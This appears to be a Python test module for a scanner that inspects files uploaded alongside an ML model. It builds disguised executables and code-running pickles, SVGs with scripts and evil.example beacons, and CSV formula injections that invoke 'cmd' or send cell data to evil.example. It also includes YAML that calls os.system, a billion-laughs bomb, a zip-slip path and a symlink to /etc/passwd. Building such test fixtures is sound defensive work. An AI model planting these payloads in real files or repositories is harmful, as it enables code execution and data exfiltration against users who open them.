"""What lies beside a model: programs, pickles and archives under any name, and names that mislead."""

import gzip
import io
import pickle
import zipfile

import numpy as np

from hostile.case import link
from hostile.models import model

THREAT = "files that run when they are opened, or are not what they say"


class Runs:
    def __reduce__(self):
        return print, ("ran",)


def archive():
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as made:
        made.writestr("data.pkl", pickle.dumps(Runs()))
    return data.getvalue()


def objects():
    data = io.BytesIO()
    np.save(data, np.array([Runs()], dtype=object))
    return data.getvalue()


SIGNATURE = b"\x89PNG\r\n\x1a\n"
PNG = SIGNATURE + b"\0" * 40
CONTENTS = {
    "zip": (archive(), "a zip archive"),
    "gzip": (gzip.compress(b"x"), "a gzip archive"),
    "bzip2": (b"BZh91AY" + b"x" * 50, "a bzip2 archive"),
    "xz": (b"\xfd7zXZ\0" + b"x" * 50, "an xz archive"),
    "zstandard": (b"\x28\xb5\x2f\xfd" + b"x" * 50, "a zstandard archive"),
    "7-zip": (b"7z\xbc\xaf\x27\x1c" + b"x" * 50, "a 7-zip archive"),
    "RAR": (b"Rar!\x1a\x07" + b"x" * 50, "a RAR archive"),
    "ELF": (b"\x7fELF" + b"x" * 50, "a native program"),
    "Windows": (b"MZ" + b"\x90" * 50, "a native program"),
    "macOS": (b"\xcf\xfa\xed\xfe" + b"x" * 50, "a native program"),
    "Java": (b"\xca\xfe\xba\xbe" + b"x" * 50, "a Java class"),
    "WebAssembly": (b"\0asm\x01\0\0\0", "a WebAssembly"),
    "HDF5": (b"\x89HDF\r\n\x1a\n" + b"x" * 50, "an HDF5 file"),
    "script": (b"#!/bin/sh\nid\n", "a script"),
}
NAMED = {
    "line feed": ("a\nb.md", "is not made of letters"),
    "option": ("-rf.md", "is not made of letters"),
    "Cyrillic": ("ev\u0430luation.csv", "is not made of letters"),
    "terminal": ("\x1b[2J.md", "is not made of letters"),
    "command": ("::stop-commands::a.md", "is not made of letters"),
    "attributes of git": (".gitattributes", "changes what git makes"),
    "LFS": (".lfsconfig", "changes what git makes"),
    "modules of git": ("data/.gitmodules", "changes what git makes"),
    **{
        f"suffix {suffix}": (f"file.{suffix}", "not allowed")
        for suffix in ("so", "sh", "exe", "pkl", "pt", "h5", "jar", "html")
    },
}


SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink'>{}</svg>"
PICTURES = {
    name: (SVG.format(inner), says)
    for name, (inner, says) in {
        "a script": ("<script>x</script>", "does more than draw"),
        "a late script": (" " * (1 << 20) + "<script>x</script>", "does more than draw"),
        "a handler": ("<g onload='x'/>", "runs code"),
        "a frame": ("<iframe src='x'/>", "does more than draw"),
        "HTML": ("<foreignObject/>", "does more than draw"),
        "an address that changes": ("<set attributeName='href' to='javascript:x'/>", "does more than draw"),
        "a beacon": ("<image href='http://evil.example/p.png'/>", "leads to"),
        "an older beacon": ("<image x:href='//evil.example/p.png'/>", "leads to"),
        "a link": ("<a href='http://evil.example'>x</a>", "leads to"),
        "code in a link": ("<a href='java&#115;cript:x'>x</a>", "leads to"),
        "a page in a link": ("<a href='data:text/html,x'>x</a>", "leads to"),
        "a style from elsewhere": ("<style>@import 'http://evil.example'</style>", "fetches"),
        "a font from elsewhere": ("<style>@font-face { src: url(//evil.example) }</style>", "fetches"),
        "a fill from elsewhere": ("<g fill='url(http://evil.example#a)'/>", "fetches"),
        "a sheet": ("</svg>", "no .svg file"),
    }.items()
} | {
    "entities": ("<!DOCTYPE svg [<!ENTITY a 'b'>]><svg>&a;</svg>", "declares entities"),
    "a style sheet": ("<?xml-stylesheet href='http://evil.example'?><svg/>", "has an instruction"),
    "another root": ("<html/>", "is <html>"),
}
YAML = {
    "a billion laughs": (
        "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}' if n else 'lol'] * 10)}]\n" for n in range(9)),
        "an anchor is not allowed",
    ),
    "an alias of itself": ("a: &a [*a]\n", "an anchor is not allowed"),
    "a key twice": ("a: 1\na: 2\n", "is given twice"),
    "100,000 lists": ("a: " + "[" * 100_000 + "\n", "nested deeper than 32"),
    "2 MiB": ("a: " + "x" * (2 << 20) + "\n", "more YAML than the 1,048,576 bytes"),
}
FORMULAS = {
    "DDE": "=cmd|' /C calc'!A0",
    "DDE behind a sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "DDE behind a number": "-2+3+cmd|' /C calc'!A0",
    "a link": '"=HYPERLINK(""http://evil.example?""&A1,""x"")"',
    "a fetch": '"+WEBSERVICE(""http://evil.example"")"',
    "a fetch behind a tab": '"\t=IMPORTXML(""http://evil.example"",""//a"")"',
    "another file": "='\\\\evil.example\\share\\[a.xlsx]Sheet1'!A1",
    "a wide sign": "\uff1dHYPERLINK(A1)",
}
CHUNKS = b"\0\0\0\rIHDR" + bytes(17) + b"\0\0\0\0IEND" + bytes(4)
BROKEN = {
    "has a program behind it": (SIGNATURE + CHUNKS + b"<?php x(); ?>", "with something behind it"),
    "never ends": (SIGNATURE + CHUNKS[:25], "ends early"),
    "begins with something else": (SIGNATURE + b"\0\0\0\0tEXt" + bytes(4) + CHUNKS, "no .png file"),
}


def elsewhere():
    array, data = io.BytesIO(), io.BytesIO()
    np.save(array, np.zeros(1))
    with zipfile.ZipFile(data, "w") as made:
        made.writestr("../../evil.npy", array.getvalue())
    return data.getvalue()


def beside(**files):
    return {"model.onnx": model(), **files}


def cases():
    for name, (data, says) in CONTENTS.items():
        for suffix in ("parquet", "png", "txt"):
            yield f"{name} as .{suffix}", beside(**{f"file.{suffix}": data}), "files-allowed", says
    for protocol in range(6):
        data = pickle.dumps(Runs(), protocol)
        for name in ("notes.txt", "rows.parquet", "LICENSE"):
            yield f"pickle {protocol} as {name}", beside(**{name: data}), "files-allowed", "a pickle"
    for name, (path, says) in NAMED.items():
        yield name, beside(**{path: b"x\n"}), "files-allowed", says
    yield "twins", beside(**{"rows.csv": b"a\n", "Rows.csv": b"b\n"}), "files-allowed", "only in case"
    yield "link", beside(**{"rows.csv": link("/etc/passwd")}), "files-allowed", "a symbolic link"
    yield "arrays of objects", beside(**{"rows.npy": objects()}), "files-allowed", "an array of objects"
    zipped = PNG + archive()
    yield "archive behind a picture", beside(**{"p.png": zipped}), "files-allowed", "behind something else"
    for name, (text, says) in PICTURES.items():
        yield f"picture with {name}", beside(**{"p.svg": text.encode()}), "files-allowed", says
    for name, (data, says) in BROKEN.items():
        yield f"picture that {name}", beside(**{"p.png": data}), "files-allowed", says
    for name in ("CON.csv", "aux.txt", "d./a.csv", "nul/a.csv"):
        yield f"Windows: {name}", beside(**{name: b"a\n"}), "files-allowed", "that Windows cannot store"
    folders = {"data/a.csv": b"a\n", "Data/b.csv": b"a\n"}
    yield "folders that are twins", beside(**folders), "files-allowed", "only in case"
    tagged = b"a: !!python/object/apply:os.system ['id']\n"
    yield "YAML that makes objects", beside(**{"x.yaml": tagged}), "files-allowed", "objects of Python"
    coded = b"# coding: utf-7\n+AGkAbQBw-\n"
    yield "Python of another coding", beside(**{"a.py": coded}), "files-allowed", "its coding is 'utf-7'"
    yield (
        "arrays that unpack elsewhere",
        beside(**{"rows.npz": elsewhere()}),
        "files-allowed",
        "outside of its",
    )
    yield "no parquet", beside(**{"rows.parquet": b"1,2\n"}), "files-allowed", "no parquet file"
    yield "zero bytes in text", beside(**{"a.md": b"a\0b"}), "files-allowed", "zero bytes"
    yield "deep JSON", beside(**{"a.json": b"[" * 200_000}), "files-allowed", "JSON"
    twice = b'{"a": 1, "a": 2}'
    yield "JSON with a key twice", beside(**{"a.json": twice}), "files-allowed", "is given twice"
    for name, (text, says) in YAML.items():
        yield f"YAML with {name}", beside(**{"train.yml": text.encode()}), "files-allowed", says
    for name, cell in FORMULAS.items():
        table = f"text,label\nfine,0\n{cell},1\n".encode()
        yield f"a cell of {name}", beside(**{"rows.csv": table}), "files-allowed", "a formula in line 3"
    yield "broken JSON", beside(**{"a.json": b"{'a': 1}"}), "files-allowed", "JSON"
    floods = {f"{n}.txt": b"0" * (1 << 20) for n in range(100)}
    yield "100 MiB of opcodes", beside(**floods), "files-allowed", "distinguished from a pickle"
    others = {f"{n}.txt": b"0" * (1 << 18) + b"%d" % n for n in range(100)}
    yield "100 files of opcodes", beside(**others), "files-allowed", "and 95 more"
    yield (
        "1,001 files",
        beside(**{f"{n}.txt": b"x" for n in range(1_001)}),
        "files-allowed",
        "more than 1,000",
    )
